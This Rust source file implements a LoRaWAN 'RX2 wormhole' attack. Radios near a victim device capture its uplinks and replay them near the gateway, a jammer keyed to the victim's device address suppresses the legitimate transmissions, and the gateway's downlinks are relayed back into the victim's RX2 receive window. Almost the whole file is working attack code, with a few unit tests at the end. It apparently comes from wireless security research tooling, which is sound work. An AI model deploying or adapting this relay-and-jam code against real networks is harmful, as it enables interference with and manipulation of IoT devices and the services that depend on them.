//! RX2 wormhole: replays the victim's uplink at the exit node (near the
//! gateway) and the gateway's RX2 downlink at the entry node (near the
//! victim), jamming the legitimate path on both ends.

use std::sync::atomic::AtomicU8;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use tokio::sync::mpsc;

use super::dedup::DedupWindow;
use super::node::{self, set_state, NodeEvent, NodeHandle, NodeState};
use super::Hooks;
use crate::config::{ChannelConfig, ChannelConfigUpdate};
use crate::modem::facade::{ModemFacade, ReceivedFrame, SnifferAction};

pub enum Rx2Event {
    PrepareRx2,
    ScheduleRx2 { at_us: u64, payload: Vec<u8> },
    UpdateDevAddr([u8; 4]),
}

struct PendingFrame {
    entry_node: usize,
    ts: u64,
    payload: Vec<u8>,
}

pub struct Rx2Wormhole {
    entry_modems: Vec<Arc<ModemFacade>>,
    exit_modems: Vec<Arc<ModemFacade>>,
    channel: ChannelConfig,
    channel_rx2: ChannelConfig,
    rx1_delay: Duration,
    rx2_delay: Duration,
    dev_addr: Option<[u8; 4]>,
    hooks: Hooks,
    entry_nodes: Vec<NodeHandle<Rx2Event>>,
    exit_nodes: Vec<NodeHandle<Rx2Event>>,
}

impl Rx2Wormhole {
    pub fn new(
        entry_modems: Vec<Arc<ModemFacade>>,
        exit_modems: Vec<Arc<ModemFacade>>,
        channel: ChannelConfig,
        channel_rx2: ChannelConfig,
        rx1_delay: Duration,
        dev_addr: Option<[u8; 4]>,
    ) -> Self {
        Rx2Wormhole {
            entry_modems,
            exit_modems,
            channel,
            channel_rx2,
            rx1_delay,
            rx2_delay: rx1_delay + Duration::from_secs(1),
            dev_addr,
            hooks: Hooks::new(),
            entry_nodes: Vec::new(),
            exit_nodes: Vec::new(),
        }
    }

    pub fn hooks(&self) -> &Hooks {
        &self.hooks
    }

    pub fn is_up(&self) -> bool {
        !self.entry_nodes.is_empty() || !self.exit_nodes.is_empty()
    }

    pub async fn set_dev_addr(&mut self, addr: [u8; 4]) {
        self.dev_addr = Some(addr);
        for node in &self.exit_nodes {
            node.send(NodeEvent::Strategy(Rx2Event::UpdateDevAddr(addr))).await;
        }
    }

    /// Applies a channel change to the stored configuration. If the
    /// wormhole is currently running, it is brought down and back up so
    /// both entry and exit radios pick up the new settings.
    pub async fn set_lora_channel(&mut self, changes: ChannelConfigUpdate) {
        changes.apply(&mut self.channel);
        if self.is_up() {
            self.down().await;
            self.up().await;
        }
    }

    pub async fn up(&mut self) {
        let dedup = Arc::new(DedupWindow::new());
        let pending = Arc::new(Mutex::new(Vec::<PendingFrame>::new()));
        let dev_addr = Arc::new(Mutex::new(self.dev_addr));

        let mut entry_txs = Vec::new();
        let mut entry_rxs = Vec::new();
        for _ in &self.entry_modems {
            let (tx, rx) = mpsc::channel(32);
            entry_txs.push(tx);
            entry_rxs.push(rx);
        }

        let mut exit_txs = Vec::new();
        let mut exit_rxs = Vec::new();
        for _ in &self.exit_modems {
            let (tx, rx) = mpsc::channel(32);
            exit_txs.push(tx);
            exit_rxs.push(rx);
        }

        for (i, modem) in self.exit_modems.iter().cloned().enumerate() {
            let name = format!("exit-{i}");
            let state = Arc::new(AtomicU8::new(NodeState::Starting as u8));
            let rx = exit_rxs.remove(0);
            let channel = self.channel;
            let entry_txs = entry_txs.clone();
            let pending = pending.clone();
            let dev_addr = dev_addr.clone();
            let hooks = self.hooks.clone();
            let rx1_delay = self.rx1_delay;
            let rx2_delay = self.rx2_delay;
            let task_state = state.clone();
            let task = tokio::spawn(exit_loop(
                modem, channel, entry_txs, pending, dev_addr, hooks, rx1_delay, rx2_delay, rx, task_state,
            ));
            self.exit_nodes.push(NodeHandle::from_parts(name, exit_txs_nth(&exit_txs, i), state, task));
        }

        for (i, modem) in self.entry_modems.iter().cloned().enumerate() {
            let name = format!("entry-{i}");
            let state = Arc::new(AtomicU8::new(NodeState::Starting as u8));
            let rx = entry_rxs.remove(0);
            let channel = self.channel;
            let channel_rx2 = self.channel_rx2;
            let dedup = dedup.clone();
            let pending = pending.clone();
            let hooks = self.hooks.clone();
            let exit_txs = exit_txs.clone();
            let rx2_delay = self.rx2_delay;
            let task_state = state.clone();
            let task = tokio::spawn(entry_loop(
                i, modem, channel, channel_rx2, dedup, pending, hooks, exit_txs, rx2_delay, rx, task_state,
            ));
            self.entry_nodes.push(NodeHandle::from_parts(name, entry_txs_nth(&entry_txs, i), state, task));
        }
    }

    pub async fn down(&mut self) {
        for node in self.entry_nodes.drain(..) {
            node.stop_and_join(Duration::from_secs(20)).await;
        }
        for node in self.exit_nodes.drain(..) {
            node.stop_and_join(Duration::from_secs(20)).await;
        }
    }
}

// `NodeHandle::from_parts` wants its own owned sender clone; these two
// helpers just index into the vectors we already cloned into the tasks.
fn exit_txs_nth(txs: &[mpsc::Sender<NodeEvent<Rx2Event>>], i: usize) -> mpsc::Sender<NodeEvent<Rx2Event>> {
    txs[i].clone()
}
fn entry_txs_nth(txs: &[mpsc::Sender<NodeEvent<Rx2Event>>], i: usize) -> mpsc::Sender<NodeEvent<Rx2Event>> {
    txs[i].clone()
}

#[allow(clippy::too_many_arguments)]
async fn entry_loop(
    index: usize,
    modem: Arc<ModemFacade>,
    channel: ChannelConfig,
    channel_rx2: ChannelConfig,
    dedup: Arc<DedupWindow>,
    pending: Arc<Mutex<Vec<PendingFrame>>>,
    hooks: Hooks,
    exit_txs: Vec<mpsc::Sender<NodeEvent<Rx2Event>>>,
    rx2_delay: Duration,
    mut rx: mpsc::Receiver<NodeEvent<Rx2Event>>,
    state: Arc<AtomicU8>,
) {
    if node::apply_channel(&modem, &channel, !channel.invertiqrx).await.is_err() {
        set_state(&state, NodeState::Stopped);
        return;
    }
    if modem.receive().await.is_err() {
        set_state(&state, NodeState::Stopped);
        return;
    }
    set_state(&state, NodeState::Running);

    loop {
        match tokio::time::timeout(Duration::from_millis(50), rx.recv()).await {
            Ok(Some(NodeEvent::Stop)) | Ok(None) => break,
            Ok(Some(NodeEvent::Strategy(Rx2Event::PrepareRx2))) => {
                if handle_prepare_rx2(&modem, &channel, &channel_rx2, &mut rx, rx2_delay).await {
                    break;
                }
            }
            Ok(Some(_)) => {}
            Err(_) => {}
        }

        match modem.fetch_frame().await {
            Ok(Some(frame)) => {
                if dedup.is_duplicate(&frame.payload) || !hooks.passes_filters(&frame.payload) {
                    continue;
                }
                for tx in &exit_txs {
                    let _ = tx.send(NodeEvent::Transmit(frame.payload.clone())).await;
                }
                pending.lock().unwrap().push(PendingFrame {
                    entry_node: index,
                    ts: frame.time_rxdone,
                    payload: frame.payload.clone(),
                });
                hooks.notify_uplink(&frame.payload);
                if handle_prepare_rx2(&modem, &channel, &channel_rx2, &mut rx, rx2_delay).await {
                    break;
                }
            }
            Ok(None) => {}
            Err(e) => tracing::warn!(error = %e, "rx2 entry node fetch_frame failed"),
        }
    }

    let _ = modem.standby().await;
    set_state(&state, NodeState::Stopped);
}

/// Switches to the RX2 channel, waits up to `rx2_delay + 1s` for a
/// `ScheduleRx2`, fires the scheduled transmit, then restores the uplink
/// channel. Returns `true` if a `Stop` was observed while waiting.
async fn handle_prepare_rx2(
    modem: &ModemFacade,
    channel: &ChannelConfig,
    channel_rx2: &ChannelConfig,
    rx: &mut mpsc::Receiver<NodeEvent<Rx2Event>>,
    rx2_delay: Duration,
) -> bool {
    if node::apply_channel(modem, channel_rx2, false).await.is_err() {
        return false;
    }

    let mut stopped = false;
    let mut scheduled = None;
    let deadline = rx2_delay + Duration::from_secs(1);
    let wait = tokio::time::timeout(deadline, async {
        loop {
            match rx.recv().await {
                Some(NodeEvent::Strategy(Rx2Event::ScheduleRx2 { at_us, payload })) => {
                    scheduled = Some((at_us, payload));
                    return;
                }
                Some(NodeEvent::Stop) | None => {
                    stopped = true;
                    return;
                }
                Some(_) => continue,
            }
        }
    });
    let _ = wait.await;

    if let Some((at_us, payload)) = scheduled {
        if let Err(e) = modem.transmit_frame(&payload, Some(at_us), false).await {
            tracing::warn!(error = %e, "rx2 scheduled transmit failed");
        }
    }
    if node::apply_channel(modem, channel, !channel.invertiqrx).await.is_ok() {
        let _ = modem.receive().await;
    }
    stopped
}

#[allow(clippy::too_many_arguments)]
async fn exit_loop(
    modem: Arc<ModemFacade>,
    channel: ChannelConfig,
    entry_txs: Vec<mpsc::Sender<NodeEvent<Rx2Event>>>,
    pending: Arc<Mutex<Vec<PendingFrame>>>,
    dev_addr: Arc<Mutex<Option<[u8; 4]>>>,
    hooks: Hooks,
    rx1_delay: Duration,
    rx2_delay: Duration,
    mut rx: mpsc::Receiver<NodeEvent<Rx2Event>>,
    state: Arc<AtomicU8>,
) {
    if node::apply_channel(&modem, &channel, true).await.is_err() {
        set_state(&state, NodeState::Stopped);
        return;
    }
    let _ = modem.set_txcrc(true).await;
    let plen = jammer_payload_length_rx2(channel.spreadingfactor);
    let _ = modem.set_jammer_payload_length(plen).await;
    update_jammer(&modem, &dev_addr).await;
    let _ = modem.standby().await;
    set_state(&state, NodeState::Running);

    loop {
        match rx.recv().await {
            Some(NodeEvent::Stop) | None => break,
            Some(NodeEvent::Strategy(Rx2Event::UpdateDevAddr(addr))) => {
                *dev_addr.lock().unwrap() = Some(addr);
                update_jammer(&modem, &dev_addr).await;
            }
            Some(NodeEvent::Transmit(payload)) => {
                let _ = modem.standby().await;
                if let Err(e) = modem.transmit_frame(&payload, None, true).await {
                    tracing::warn!(error = %e, "rx2 exit node transmit failed");
                }
                if node::apply_channel(&modem, &channel, true).await.is_ok() {
                    let _ = modem.receive().await;
                    poll_for_downlink(&modem, &entry_txs, &pending, &dev_addr, &hooks, rx1_delay, rx2_delay).await;
                }
                update_jammer(&modem, &dev_addr).await;
            }
            Some(NodeEvent::Strategy(Rx2Event::PrepareRx2 | Rx2Event::ScheduleRx2 { .. })) => {}
        }
    }

    let _ = modem.standby().await;
    set_state(&state, NodeState::Stopped);
}

pub fn jammer_payload_length_rx2(spreadingfactor: u8) -> u8 {
    13i32.saturating_sub(spreadingfactor as i32).clamp(1, 255) as u8
}

async fn update_jammer(modem: &ModemFacade, dev_addr: &Arc<Mutex<Option<[u8; 4]>>>) {
    let addr = *dev_addr.lock().unwrap();
    match addr {
        Some(addr) => {
            let mut pattern = vec![0x00];
            pattern.extend_from_slice(&addr);
            let mask = [0x00, 0xFF, 0xFF, 0xFF, 0xFF];
            if let Err(e) = modem.enable_sniffer(false, &mask, &pattern, SnifferAction::Internal, None).await {
                tracing::warn!(error = %e, "failed to arm rx2 jammer");
            }
        }
        None => {
            let _ = modem.standby().await;
        }
    }
}

async fn poll_for_downlink(
    modem: &ModemFacade,
    entry_txs: &[mpsc::Sender<NodeEvent<Rx2Event>>],
    pending: &Arc<Mutex<Vec<PendingFrame>>>,
    dev_addr: &Arc<Mutex<Option<[u8; 4]>>>,
    hooks: &Hooks,
    rx1_delay: Duration,
    rx2_delay: Duration,
) {
    let deadline = rx1_delay + Duration::from_secs(1);
    let started = tokio::time::Instant::now();
    while started.elapsed() < deadline {
        match modem.fetch_frame().await {
            Ok(Some(frame)) => {
                let addr = *dev_addr.lock().unwrap();
                let matches = addr
                    .map(|addr| frame.payload.len() >= 5 && frame.payload[1..5] == addr)
                    .unwrap_or(false);
                if matches {
                    forward_downlink(&frame, entry_txs, pending, rx2_delay, hooks).await;
                }
            }
            Ok(None) => tokio::time::sleep(Duration::from_millis(20)).await,
            Err(e) => {
                tracing::warn!(error = %e, "rx2 exit node fetch_frame failed");
                break;
            }
        }
    }
}

fn find_matching_pending(dev_addr: &[u8], frames: &[PendingFrame]) -> Option<usize> {
    frames.iter().rposition(|p| p.payload.len() >= 5 && p.payload[1..5] == *dev_addr)
}

async fn forward_downlink(
    frame: &ReceivedFrame,
    entry_txs: &[mpsc::Sender<NodeEvent<Rx2Event>>],
    pending: &Arc<Mutex<Vec<PendingFrame>>>,
    rx2_delay: Duration,
    hooks: &Hooks,
) {
    if frame.payload.len() < 5 {
        return;
    }
    let dev_addr = &frame.payload[1..5];
    let found = {
        let mut guard = pending.lock().unwrap();
        find_matching_pending(dev_addr, &guard).map(|pos| guard.remove(pos))
    };
    if let Some(pf) = found {
        let at_us = pf.ts + rx2_delay.as_micros() as u64;
        if let Some(tx) = entry_txs.get(pf.entry_node) {
            let _ = tx
                .send(NodeEvent::Strategy(Rx2Event::ScheduleRx2 { at_us, payload: frame.payload.clone() }))
                .await;
        }
        hooks.notify_downlink(&frame.payload);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn jammer_length_formula_matches_spec() {
        assert_eq!(jammer_payload_length_rx2(7), 6);
        assert_eq!(jammer_payload_length_rx2(12), 1);
    }

    #[test]
    fn finds_most_recent_matching_pending_frame() {
        let frames = vec![
            PendingFrame { entry_node: 0, ts: 100, payload: vec![0x40, 0x01, 0x02, 0x03, 0x04] },
            PendingFrame { entry_node: 1, ts: 200, payload: vec![0x40, 0x01, 0x02, 0x03, 0x04] },
        ];
        let pos = find_matching_pending(&[0x01, 0x02, 0x03, 0x04], &frames);
        assert_eq!(pos, Some(1));
    }

    #[test]
    fn no_match_when_dev_addr_differs() {
        let frames = vec![PendingFrame { entry_node: 0, ts: 100, payload: vec![0x40, 9, 9, 9, 9] }];
        assert_eq!(find_matching_pending(&[0x01, 0x02, 0x03, 0x04], &frames), None);
    }
}
